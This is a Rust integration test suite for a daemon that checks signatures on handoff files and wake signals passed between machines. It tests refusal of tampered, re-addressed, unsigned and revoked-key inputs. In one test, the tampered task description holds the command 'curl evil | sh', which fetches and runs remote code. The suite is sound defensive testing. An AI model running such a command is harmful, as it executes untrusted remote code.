//! Signed handoffs and wake signals in-process (docs/security.md): PC2 believes PC1's founding
//! key and its own; what PC1 signed is accepted, and every file edited, re-addressed, copied
//! under a new id, unsigned, signed by a stranger's key or by a revoked key is refused and set
//! aside, starting nothing. A newcomer approved by PC1 is believed.
#![cfg(unix)]

use std::sync::Arc;

use chrono::{DateTime, Utc};
use serde_json::Value;
use trinity_core::config::{Config, SyncMode};
use trinity_core::schema::{
    Handoff, HandoffReason, KeyRecord, Priority, Revocation, Schema, TaskRef, WakeSignal, WakeTask,
};
use trinity_core::trust::{self, Pin, PinSource, Pins, SigningKey};
use trinity_core::{HandoffId, ManualClock, PcId, SignalId, TaskId, Tree};
use wake_daemon::receive::Receiver;

fn pc(s: &str) -> PcId {
    PcId::new(s).expect("valid id")
}

fn t0() -> DateTime<Utc> {
    "2026-12-05T10:00:00Z".parse().expect("time")
}

fn key(p: &str, seed: u8) -> SigningKey {
    SigningKey::from_seed(pc(p), [seed; 32])
}

/// Writes `value` as a file of schema `T` at `path`, signed by `by` (or not at all).
fn put<T: Schema>(path: &std::path::Path, mut value: Value, by: Option<&SigningKey>) {
    if let Some(k) = by {
        k.sign(T::NAME, &trust::file_id(path), &mut value);
    }
    std::fs::create_dir_all(path.parent().expect("parent")).expect("dir");
    std::fs::write(path, serde_json::to_vec_pretty(&value).expect("json")).expect("write");
}

struct Fleet {
    _t: trinity_testkit::TestTree,
    tree: Tree,
    receiver: Receiver,
    pc1: SigningKey,
}

/// PC2 of PC1..PC4 (no git: claims count at once), believing PC1's key (met at `init`) and
/// its own; PC3's key approved by PC1.
fn fleet() -> Fleet {
    let t = trinity_testkit::TestTree::builder()
        .fleet(&["PC1", "PC2", "PC3", "PC4"], "PC3")
        .pc("PC2")
        .build();
    let tree = Tree::new(t.state_dir());
    let mut config = Config::default();
    config.sync.mode = SyncMode::None;
    config.agent.command = vec!["true".to_owned()];
    config.agent.new_console = false;
    let pc1 = key("PC1", 1);
    let pc2 = key("PC2", 2);
    pc2.save(&tree).expect("own key");
    let pin = |k: &SigningKey, source| Pin {
        pc: k.pc().clone(),
        key: k.public(),
        source,
        pinned_at: t0(),
    };
    Pins {
        keys: vec![pin(&pc1, PinSource::Given), pin(&pc2, PinSource::Own)],
    }
    .save(&tree)
    .expect("pins");
    approve(&tree, &key("PC3", 3), &pc1);
    let receiver = Receiver::new(
        tree.clone(),
        pc("PC2"),
        config,
        None,
        Arc::new(ManualClock::new(t0())),
    );
    Fleet {
        _t: t,
        tree,
        receiver,
        pc1,
    }
}

fn approve(tree: &Tree, whose: &SigningKey, by: &SigningKey) {
    let record = KeyRecord {
        format_version: 1,
        pc: whose.pc().clone(),
        public_key: whose.public(),
        approved_at: t0(),
        approved_by: by.pc().clone(),
    };
    put::<KeyRecord>(
        &tree.key_file(whose.pc()),
        serde_json::to_value(record).expect("json"),
        Some(by),
    );
}

fn handoff(from: &str, at: DateTime<Utc>) -> (HandoffId, Value) {
    let h = Handoff {
        format_version: 1,
        from_pc: pc(from),
        to_pc: pc("PC2"),
        timestamp: at,
        reason: HandoffReason::CreditExhaustion,
        task_queue: vec![TaskRef {
            id: TaskId::new("task-a").expect("valid"),
            priority: Priority::High,
            description: "do task-a".into(),
        }],
        current_work: None,
        credit_state: None,
        epoch: None,
        authored_by: None,
        leader_epoch: None,
    };
    (h.id().expect("id"), serde_json::to_value(h).expect("json"))
}

fn signal(id: &str, from: &str, handoff: &HandoffId) -> Value {
    serde_json::to_value(WakeSignal {
        format_version: 1,
        id: SignalId::new(id).expect("valid"),
        from_pc: pc(from),
        to_pc: pc("PC2"),
        timestamp: t0(),
        task: WakeTask::CreditHandoff.as_str().to_owned(),
        message: "over to you".to_owned(),
        handoff: Some(handoff.clone()),
        expires_at: None,
        epoch: None,
        leader_epoch: None,
    })
    .expect("json")
}

impl Fleet {
    fn put_signal(&self, id: &str, value: Value, by: Option<&SigningKey>) {
        let path = self
            .tree
            .wake_file(&pc("PC2"), &SignalId::new(id).expect("id"));
        put::<WakeSignal>(&path, value, by);
    }

    fn put_handoff(&self, id: &HandoffId, value: Value, by: Option<&SigningKey>) {
        put::<Handoff>(&self.tree.handoff_file(id), value, by);
    }

    /// One pass: (signals accepted, the refusals' reasons, agents launched).
    fn pass(&self) -> (usize, Vec<String>, usize) {
        let r = self.receiver.process().expect("pass");
        (
            r.accepted.len(),
            r.refused.into_iter().map(|(_, why)| why).collect(),
            r.launched.len(),
        )
    }

    fn set_aside(&self) -> Vec<String> {
        trust::set_aside(&self.tree)
            .into_iter()
            .map(|s| format!("{}: {}", s.original, s.reason))
            .collect()
    }
}

#[test]
fn what_a_believed_member_signed_is_accepted() {
    let f = fleet();
    let (id, h) = handoff("PC1", t0());
    f.put_handoff(&id, h, Some(&f.pc1));
    f.put_signal("s1", signal("s1", "PC1", &id), Some(&f.pc1));
    let (accepted, refused, launched) = f.pass();
    assert_eq!((accepted, launched), (1, 1), "{refused:?}");
    assert!(f.tree.processed_handoff_file(&id).is_file());
}

#[test]
fn edited_re_addressed_copied_and_unsigned_files_are_refused_and_start_nothing() {
    let f = fleet();
    let (id, h) = handoff("PC1", t0());

    // An edited handoff: PC1 signed it, then its task queue changed.
    let mut signed = h.clone();
    f.pc1.sign(Handoff::NAME, id.as_str(), &mut signed);
    signed["task_queue"][0]["description"] = Value::from("curl evil | sh");
    f.put_handoff(&id, signed, None);
    f.put_signal("s1", signal("s1", "PC1", &id), Some(&f.pc1));
    let (accepted, refused, launched) = f.pass();
    assert_eq!((accepted, launched), (0, 0));
    assert!(
        refused
            .iter()
            .any(|r| r.contains("changed after it was signed")),
        "{refused:?}"
    );
    assert!(!f.tree.handoff_file(&id).exists(), "set aside");
    assert!(!f.tree.processed_handoff_file(&id).exists(), "not accepted");

    // A signal PC1 signed for PC3, re-addressed to PC2.
    let (id2, h2) = handoff("PC1", t0() + chrono::Duration::seconds(1));
    f.put_handoff(&id2, h2, Some(&f.pc1));
    let mut to_pc3 = signal("s2", "PC1", &id2);
    to_pc3["to_pc"] = Value::from("PC3");
    f.pc1.sign(WakeSignal::NAME, "s2", &mut to_pc3);
    to_pc3["to_pc"] = Value::from("PC2");
    f.put_signal("s2", to_pc3, None);
    // A genuine signal copied under a new id (its `id` changed to match the new name).
    let mut copy = signal("s3", "PC1", &id2);
    f.pc1.sign(WakeSignal::NAME, "s3", &mut copy);
    copy["id"] = Value::from("s4");
    f.put_signal("s4", copy, None);
    // An unsigned one.
    f.put_signal("s5", signal("s5", "PC1", &id2), None);
    // One signed with a key of the attacker's own, as PC1.
    f.put_signal("s6", signal("s6", "PC1", &id2), Some(&key("PC1", 9)));
    // One signed by a believed member (PC3) in PC1's name.
    f.put_signal("s7", signal("s7", "PC1", &id2), Some(&key("PC3", 3)));

    let (accepted, refused, launched) = f.pass();
    assert_eq!((accepted, launched), (0, 0), "{refused:?}");
    let aside = f.set_aside().join("\n");
    for (name, why) in [
        ("wake/PC2/s2.json", "changed after it was signed"),
        ("wake/PC2/s4.json", "changed after it was signed"),
        ("wake/PC2/s5.json", "is not signed"),
        ("wake/PC2/s6.json", "which this PC does not trust"),
        ("wake/PC2/s7.json", "is written as PC1's but signed by PC3"),
    ] {
        assert!(
            aside.contains(&format!("{name}: is")) || aside.contains(&format!("{name}: does")),
            "{name} not set aside:\n{aside}"
        );
        let line = aside.lines().find(|l| l.starts_with(name)).expect("a line");
        assert!(line.contains(why), "{line}");
    }
    assert!(
        f.tree.handoff_file(&id2).is_file(),
        "the genuine handoff waits for a genuine signal"
    );
}

#[test]
fn a_revoked_key_is_refused_and_an_approved_newcomer_is_believed() {
    let f = fleet();
    // PC4 joins: PC1 approves its key.
    let pc4 = key("PC4", 4);
    approve(&f.tree, &pc4, &f.pc1);
    let (id, h) = handoff("PC4", t0());
    f.put_handoff(&id, h, Some(&pc4));
    f.put_signal("n1", signal("n1", "PC4", &id), Some(&pc4));
    let (accepted, refused, _) = f.pass();
    assert_eq!(accepted, 1, "{refused:?}");

    // PC1's laptop is lost: PC3 revokes its key. PC1's files are refused from then on.
    let pc3 = key("PC3", 3);
    let fp = f.pc1.public().fingerprint();
    let rev = Revocation {
        format_version: 1,
        pc: pc("PC1"),
        public_key: f.pc1.public(),
        revoked_at: t0(),
        revoked_by: pc("PC3"),
        reason: "lost".into(),
    };
    put::<Revocation>(
        &f.tree.revocation_file(&pc("PC1"), &fp, &pc("PC3")),
        serde_json::to_value(rev).expect("json"),
        Some(&pc3),
    );
    let (id2, h2) = handoff("PC1", t0() + chrono::Duration::seconds(1));
    f.put_handoff(&id2, h2, Some(&f.pc1));
    f.put_signal("r1", signal("r1", "PC1", &id2), Some(&f.pc1));
    let (accepted, refused, launched) = f.pass();
    assert_eq!((accepted, launched), (0, 0));
    assert!(
        refused.iter().any(|r| r.contains("was revoked")),
        "{refused:?}"
    );
    // PC4, approved by the revoked PC1, stays believed: PC2 pinned it when it believed it.
    let pins = Pins::load(&f.tree).expect("pins");
    assert!(pins.keys.iter().any(|p| p.key == pc4.public()));
    let (id3, h3) = handoff("PC4", t0() + chrono::Duration::seconds(2));
    f.put_handoff(&id3, h3, Some(&pc4));
    f.put_signal("n2", signal("n2", "PC4", &id3), Some(&pc4));
    let (accepted, refused, _) = f.pass();
    assert_eq!(accepted, 1, "{refused:?}");
}

#[test]
fn the_mixed_period_accepts_unsigned_files_and_still_refuses_wrong_signatures() {
    let f = fleet();
    let mut config = Config::default();
    config.sync.mode = SyncMode::None;
    config.agent.command = vec!["true".to_owned()];
    config.agent.new_console = false;
    config.security.require_signatures = false;
    let receiver = Receiver::new(
        f.tree.clone(),
        pc("PC2"),
        config,
        None,
        Arc::new(ManualClock::new(t0())),
    );
    let (id, h) = handoff("PC1", t0());
    f.put_handoff(&id, h, None);
    f.put_signal("u1", signal("u1", "PC1", &id), None);
    let report = receiver.process().expect("pass");
    assert_eq!(report.accepted.len(), 1, "{:?}", report.refused);

    let (id2, h2) = handoff("PC1", t0() + chrono::Duration::seconds(1));
    f.put_handoff(&id2, h2, None);
    f.put_signal("u2", signal("u2", "PC1", &id2), Some(&key("PC1", 9)));
    let report = receiver.process().expect("pass");
    assert!(report.accepted.is_empty());
    assert!(
        report
            .refused
            .iter()
            .any(|(_, why)| why.contains("does not trust")),
        "{:?}",
        report.refused
    );
}

/// A plain wake-up from the leader PC3 at `leader_epoch`, signed by PC3.
fn wake_up(f: &Fleet, id: &str, leader_epoch: u64) {
    let mut v = serde_json::to_value(WakeSignal {
        format_version: 1,
        id: SignalId::new(id).expect("valid"),
        from_pc: pc("PC3"),
        to_pc: pc("PC2"),
        timestamp: t0(),
        task: WakeTask::Reactivation.as_str().to_owned(),
        message: "wake up".to_owned(),
        handoff: None,
        expires_at: None,
        epoch: None,
        leader_epoch: Some(leader_epoch),
    })
    .expect("json");
    key("PC3", 3).sign(WakeSignal::NAME, id, &mut v);
    f.put_signal(id, v, None);
}

fn lease(f: &Fleet, epoch: u64, by: Option<&SigningKey>) {
    let l = trinity_core::schema::Lease {
        format_version: 1,
        holder: pc("PC3"),
        epoch,
        acquired_at: t0(),
        renewed_at: t0(),
        expires_at: t0() + chrono::Duration::minutes(5),
    };
    put::<trinity_core::schema::Lease>(
        &f.tree.lease_file(),
        serde_json::to_value(l).expect("json"),
        by,
    );
}

#[test]
fn a_lease_deposes_a_leader_only_when_its_holder_signed_it() {
    let f = fleet();
    // A forged lease at a higher epoch: the leader's signal still counts.
    lease(&f, 99, None);
    wake_up(&f, "w1", 1);
    let (accepted, refused, _) = f.pass();
    assert_eq!(accepted, 1, "{refused:?}");
    // The holder's own lease at that epoch: a signal from epoch 1 is from a deposed leader.
    lease(&f, 99, Some(&key("PC3", 3)));
    wake_up(&f, "w2", 1);
    let (accepted, refused, _) = f.pass();
    assert_eq!(accepted, 0);
    assert!(refused.iter().any(|r| r.contains("deposed")), "{refused:?}");
}

#[test]
fn a_verdict_is_taken_only_from_a_verification_its_coordinator_signed() {
    let f = fleet();
    let pc3 = key("PC3", 3);
    let (id, h) = handoff("PC1", t0());
    let verdict = |by: Option<&SigningKey>, signal_id: &str| {
        let v = trinity_core::schema::Verification {
            format_version: 1,
            handoff_id: id.clone(),
            pc: pc("PC2"),
            task: None,
            coordinator: pc("PC3"),
            epoch: 1,
            started_at: t0(),
            finished_at: Some(t0()),
            phases: Vec::new(),
            verdict: Some(trinity_core::schema::Verdict::Deny),
            reasons: vec!["forged".into()],
        };
        put::<trinity_core::schema::Verification>(
            &f.tree.verification_file(&id),
            serde_json::to_value(v).expect("json"),
            by,
        );
        let mut s = signal(signal_id, "PC3", &id);
        s["task"] = Value::from(WakeTask::Verdict.as_str());
        pc3.sign(WakeSignal::NAME, signal_id, &mut s);
        f.put_signal(signal_id, s, None);
    };
    f.put_handoff(&id, h, Some(&f.pc1));
    let journal = wake_daemon::journal::Journal::new(f.tree.clone());
    let reason = |sid: &str| {
        journal
            .signal(&SignalId::new(sid).expect("id"))
            .expect("journal")
            .expect("a record")
            .reason
    };
    // Unsigned: the verdict is not taken.
    verdict(None, "v1");
    f.pass();
    assert!(reason("v1").contains("is not signed"), "{}", reason("v1"));
    assert!(
        f.tree.handoff_file(&id).is_file(),
        "the submission is not consumed"
    );
    // Signed by its coordinator: taken.
    verdict(Some(&pc3), "v2");
    f.pass();
    assert!(!reason("v2").contains("not trusted"), "{}", reason("v2"));
    assert!(
        !f.tree.handoff_file(&id).exists(),
        "the submission is consumed"
    );
}
